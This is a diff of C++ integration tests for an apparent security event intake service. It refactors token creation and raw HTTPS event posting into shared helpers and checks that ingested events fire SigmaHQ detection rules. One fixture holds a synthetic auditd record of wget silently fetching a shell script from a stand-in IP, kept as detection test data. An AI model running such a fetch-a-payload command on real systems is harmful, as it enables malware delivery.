@@ -31,7 +31,30 @@ std::string SshFailures(const std::string& host, int n) {
     return out;
 }
 
-class IngestTest : public ServeTest {
+// The HTTP intake as a log shipper uses it: a token with the events.ingest scope, raw POSTs.
+class IntakeTest : public ServeTest {
+protected:
+    std::string IngestToken(Browser& manager) {
+        HttpReply r = Send(
+            "POST", "/api/v1/tokens",
+            json{{"name", "shipper"}, {"scopes", {"events.ingest"}}, {"expires_days", 1}}.dump(),
+            &manager);
+        EXPECT_EQ(r.status, 201) << r.body;
+        return r.status == 201 ? Json(r)["token"].get<std::string>() : "";
+    }
+    HttpReply PostEvents(const std::string& token, const std::string& body,
+                         const std::string& type = "application/x-ndjson") {
+        const std::string raw =
+            "POST /api/v1/events HTTP/1.1\r\nHost: localhost\r\n"
+            "Authorization: Bearer " +
+            token + "\r\nContent-Type: " + type +
+            "\r\nContent-Length: " + std::to_string(body.size()) + "\r\nConnection: close\r\n\r\n" +
+            body;
+        return ParseReply(TlsExchange(app_->port(), Cert(), raw).value_or(""));
+    }
+};
+
+class IngestTest : public IntakeTest {
 protected:
     void SetUp() override {
         ServeTest::SetUp();
@@ -90,28 +113,17 @@ TEST_F(IngestTest, EveryIntakeStoresSearchableEventsAndRulesFire) {
 
     // The HTTP intake with an ingest token (NDJSON: an auditd record and a JSON event).
     Browser manager = FullSession("secmgr", auth::Role::kSecurityManager);
-    HttpReply r =
-        Send("POST", "/api/v1/tokens",
-             json{{"name", "shipper"}, {"scopes", {"events.ingest"}}, {"expires_days", 30}}.dump(),
-             &manager);
-    ASSERT_EQ(r.status, 201) << r.body;
-    const std::string bearer =
-        "Authorization: Bearer " + Json(r)["token"].get<std::string>() + "\r\n";
+    const std::string token = IngestToken(manager);
     const std::string ndjson =
         "type=EXECVE msg=audit(1763712915.123:77): argc=3 a0=\"wget\" a1=\"-q\" "
         "a2=\"http://203.0.113.9/x.sh\"\n"
         "{\"message\":\"hello from the intake\",\"app\":\"payments\"}\n";
-    const std::string raw =
-        "POST /api/v1/events HTTP/1.1\r\nHost: localhost\r\n" + bearer +
-        "Content-Type: application/x-ndjson\r\nContent-Length: " + std::to_string(ndjson.size()) +
-        "\r\nConnection: close\r\n\r\n" + ndjson;
-    auto out = TlsExchange(app_->port(), Cert(), raw);
-    ASSERT_TRUE(out);
-    HttpReply intake = ParseReply(*out);
+    HttpReply intake = PostEvents(token, ndjson);
     ASSERT_EQ(intake.status, 202) << intake.body;
     EXPECT_EQ(Json(intake)["accepted"], 2);
     // A token without the scope is refused.
-    r = Send("POST", "/api/v1/tokens",
+    HttpReply r =
+        Send("POST", "/api/v1/tokens",
              json{{"name", "reader"}, {"scopes", {"system.status"}}, {"expires_days", 1}}.dump(),
              &manager);
     EXPECT_EQ(Send("POST", "/api/v1/events", "{}", nullptr, true,
@@ -257,18 +269,9 @@ TEST_F(IngestTest, CorrelationWindowsSurviveARestart) {
 
 TEST_F(IngestTest, BadIntakeBodiesAreClearErrors) {
     Browser manager = FullSession("secmgr", auth::Role::kSecurityManager);
-    HttpReply r =
-        Send("POST", "/api/v1/tokens",
-             json{{"name", "shipper"}, {"scopes", {"events.ingest"}}, {"expires_days", 1}}.dump(),
-             &manager);
-    const std::string bearer =
-        "Authorization: Bearer " + Json(r)["token"].get<std::string>() + "\r\n";
+    const std::string token = IngestToken(manager);
     auto post = [&](const std::string& body, const std::string& type) {
-        const std::string raw = "POST /api/v1/events HTTP/1.1\r\nHost: localhost\r\n" + bearer +
-                                "Content-Type: " + type +
-                                "\r\nContent-Length: " + std::to_string(body.size()) +
-                                "\r\nConnection: close\r\n\r\n" + body;
-        return ParseReply(TlsExchange(app_->port(), Cert(), raw).value_or(""));
+        return PostEvents(token, body, type);
     };
     EXPECT_EQ(post("", "application/json").status, 400);
     EXPECT_EQ(post("\n\n", "text/plain").status, 400);
@@ -276,7 +279,7 @@ TEST_F(IngestTest, BadIntakeBodiesAreClearErrors) {
     EXPECT_EQ(post("a=b", "application/x-www-form-urlencoded").status, 415);
     EXPECT_EQ(post(std::string(100, '{') + "\n", "application/x-ndjson").status, 202)
         << "a malformed line is kept and stored as text";
-    r = Get("/api/v1/events?since=yesterday", &manager);
+    HttpReply r = Get("/api/v1/events?since=yesterday", &manager);
     EXPECT_EQ(r.status, 400);
     EXPECT_NE(r.body.find("RFC 3339"), std::string::npos);
 }
@@ -383,7 +386,7 @@ TEST_F(SilentSourceIngestTest, AQuietSourceRaisesOneDetectionAndRecoversOnTheNex
 // syslog message over TCP and UDP, as lines of a tailed audit.log and as NDJSON lines, each
 // event is stored once, whole, so SigmaHQ's linux process_creation rule that needs the image
 // (SYSCALL) and the command line (EXECVE) together fires on it. Needs ../shared/data.
-class AuditdIngestTest : public ServeTest {
+class AuditdIngestTest : public IntakeTest {
 protected:
     void SetUp() override {
         ServeTest::SetUp();
@@ -438,20 +441,9 @@ TEST_F(AuditdIngestTest, RecordsOfOneEventAreStoredTogetherAndSigmaHQRulesFire) 
         for (const auto& r : Records(103)) log << r << "\n";
     }
     Browser manager = FullSession("secmgr", auth::Role::kSecurityManager);
-    HttpReply r =
-        Send("POST", "/api/v1/tokens",
-             json{{"name", "shipper"}, {"scopes", {"events.ingest"}}, {"expires_days", 1}}.dump(),
-             &manager);
-    ASSERT_EQ(r.status, 201) << r.body;
     std::string ndjson;
     for (const auto& rec : Records(104)) ndjson += rec + "\n";
-    const std::string raw =
-        "POST /api/v1/events HTTP/1.1\r\nHost: localhost\r\n"
-        "Authorization: Bearer " +
-        Json(r)["token"].get<std::string>() +
-        "\r\nContent-Type: application/x-ndjson\r\nContent-Length: " +
-        std::to_string(ndjson.size()) + "\r\nConnection: close\r\n\r\n" + ndjson;
-    HttpReply intake = ParseReply(TlsExchange(app_->port(), Cert(), raw).value_or(""));
+    HttpReply intake = PostEvents(IngestToken(manager), ndjson);
     ASSERT_EQ(intake.status, 202) << intake.body;
     EXPECT_EQ(Json(intake)["accepted"], 1) << "four records, one event";
 
@@ -476,7 +468,7 @@ TEST_F(AuditdIngestTest, RecordsOfOneEventAreStoredTogetherAndSigmaHQRulesFire) 
     }
     EXPECT_EQ(sources, (std::set<std::string>{"syslog-tcp", "syslog-udp", "audit-file", "http"}));
 
-    r = Get("/api/v1/detections?since=2000-01-01T00:00:00Z&limit=100", &analyst);
+    HttpReply r = Get("/api/v1/detections?since=2000-01-01T00:00:00Z&limit=100", &analyst);
     ASSERT_EQ(r.status, 200) << r.body;
     const json detections = Json(r);
     std::set<std::string> fired_on;
